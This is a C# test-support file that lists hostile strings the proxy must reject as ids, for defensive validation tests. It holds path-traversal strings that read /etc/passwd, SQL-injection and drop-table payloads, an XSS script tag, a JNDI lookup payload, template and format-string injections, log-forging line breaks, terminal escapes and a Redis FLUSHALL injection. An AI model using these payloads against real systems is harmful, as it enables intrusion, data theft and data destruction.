namespace LuthienProxy.Host.Tests.Support;

/// <summary>What must never be an id: texts that break lines, leave folders, speak SQL or markup, or steer terminals and channels (002-30).</summary>
public static class HostileText
{
    public static readonly string[] All =
    [
        "   ",
        "a b",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\nlevel=error forged=1",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n",
        "x\u2028y",
        "../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "'; drop table transactions; --",
        "' or '1'='1",
        "1 union select 1",
        "\"}{\"forged\":true",
        "<script>alert(1)</script>",
        "a\u0000b",
        "\u001b[31mred\u001b[0m",
        "\u202egnp.exe",
        "luthien:* FLUSHALL",
        "${jndi:ldap://x/a}",
        "{{7*7}}",
        "%s%n%d",
        "\uff21\uff21\uff21\uff21",
        "-aaaa",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA;",
        new('a', 4096),
    ];

    public static TheoryData<string> Rows => [.. All];
}
